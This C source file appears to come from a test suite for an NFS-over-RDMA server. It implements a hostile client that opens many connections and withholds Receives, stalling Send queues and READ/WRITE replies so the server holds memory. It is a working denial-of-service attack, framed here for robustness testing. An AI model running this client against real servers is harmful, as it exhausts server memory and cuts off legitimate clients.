// SPDX-License-Identifier: GPL-2.0
/*
 * A client that makes the server hold memory, on many connections.
 *
 * Each case uses the same means: the client posts no Receive, and lets the server's
 * device retry for ever. So a Send to the client does not complete, nor does anything
 * that the server posts behind it. Meanwhile, tests/hostile.sh watches the server's
 * memory and honest mounts.
 */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "client.h"

#define MIB		(1024 * 1024)
/* Replies arrive within this time if the server has Send buffers for them. */
#define ANSWER_MS	3000
#define BATCH		16

#define LOOKUP_HUGE	"00000018 0000000f 00000004 68756765 "
/*
 * An operation behind the READ makes nfsd copy the data, so that the Reply has pages of
 * its own.
 */
#define COPIED_READ	COMPOUND "00000004 " LOOKUP_HUGE READ "00000018"

struct hold {
	const char		*name;
	struct connection	*(*prepare)(const char *source);
	void			(*attack)(struct connection *c,
					  const struct memory *m);
};

/*
 * A connection, and 1 MiB for its READs or WRITEs; each connection has its own handle.
 */
struct held {
	struct connection	*c;
	struct memory		m;
};

static struct connection *prepare(const char *source, unsigned int recvs)
{
	struct options options = default_options;
	struct connection *c;

	options.recvs = recvs;
	options.sends = MAX_CHAIN;
	options.source = source;
	c = connection_open(&options);
	negotiate(c);
	return c;
}

/* Negotiation uses up the only Receive. */
static struct connection *without_receives(const char *source)
{
	return prepare(source, 1);
}

static struct connection *with_credits(const char *source)
{
	struct connection *c = prepare(source, GRANTED + 8);

	earn(c);
	return c;
}

/* Number of Calls, of all clients, without an answer */
static long long unanswered(void)
{
	/* Read the Replies first, because an answer follows its Call. */
	unsigned long long replies = server_counter("replies_sent");

	return server_counter("calls_received") - replies;
}

static bool is_answered_within(long long before, int ms)
{
	int64_t deadline = now_ms() + ms;

	while (unanswered() > before) {
		if (now_ms() > deadline)
			return false;
		usleep(20000);
	}
	return true;
}

/* Each Reply takes a Send buffer, until the server has no more. */
static void use_up_sends(struct connection *c)
{
	long long before = unanswered();

	do {
		say_at_once(c, BATCH, NULL_CALL);
	} while (is_answered_within(before, ANSWER_MS));
}

static void say_reads(struct connection *c, const struct memory *m,
		      unsigned int calls)
{
	unsigned int i;

	for (i = 0; i < calls; i++)
		say(c, CALL_HEAD END END NEXT "00000001 " A_SEGMENT END END
		    COPIED_READ, xid + i, m->mr->rkey, MIB, address(m),
		    xid + i, MIB);
}

static void replies_wait(struct connection *c, const struct memory *m)
{
	use_up_sends(c);
	say_reads(c, m, GRANTED - BATCH);
}

static void replies_written(struct connection *c, const struct memory *m)
{
	say_reads(c, m, FIRST_GRANTED);
}

/*
 * Send a NULL, whose Reply blocks the Send Queue for the Reads behind it. Calls of the
 * previous connection may arrive meanwhile, and look like an unanswered NULL. The wait
 * ends after ANSWER_MS anyway.
 */
static void reads(struct connection *c, const struct memory *m)
{
	long long before = unanswered();
	unsigned int i;

	say(c, NULL_CALL);
	is_answered_within(before, ANSWER_MS);
	for (i = 0; i < FIRST_GRANTED - 1; i++)
		say(c, CALL_HEAD END NEXT "%08x " A_SEGMENT END END END
		    WRITE_CALL, xid + i, WRITE_POSITION, m->mr->rkey,
		    MIB, address(m), xid + i, MIB);
}

static const struct hold holds[] = {
	{ "replies-wait", with_credits, replies_wait },
	{ "replies-written", without_receives, replies_written },
	{ "reads", without_receives, reads },
};

static const struct hold *find(const char *name)
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(holds); i++)
		if (!strcmp(holds[i].name, name))
			return &holds[i];
	fail("no case %s", name);
}

/* Print @what, and wait for SIGUSR1. */
static void say_and_wait(const char *what, const sigset_t *set)
{
	int signal;

	printf("%s\n", what);
	sigwait(set, &signal);
}

/**
 * hold - make the server hold memory until a signal comes
 * @name: name of the case
 * @connections: number of connections
 * @sources: number of addresses that they come from, from 192.168.77.10 on
 *
 * Prints "ready" when all are connected, and attacks at SIGUSR1. Then prints "holding",
 * and waits for SIGUSR1 again.
 *
 * Return: 0.
 */
int hold(const char *name, unsigned int connections, unsigned int sources)
{
	const struct hold *h = find(name);
	struct held *held = calloc(connections, sizeof(*held));
	char source[sizeof("192.168.77.255")];
	sigset_t set;
	unsigned int i;

	if (!held || !sources || sources > 200)
		fail("%u connections, %u addresses", connections, sources);
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (i = 0; i < connections; i++) {
		sprintf(source, "192.168.77.%u", 10 + i % sources);
		held[i].c = h->prepare(source);
		memory_expose(held[i].c, &held[i].m, MIB + 4096,
			      IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE);
	}
	say_and_wait("ready", &set);
	for (i = 0; i < connections; i++)
		h->attack(held[i].c, &held[i].m);
	say_and_wait("holding", &set);
	return 0;
}
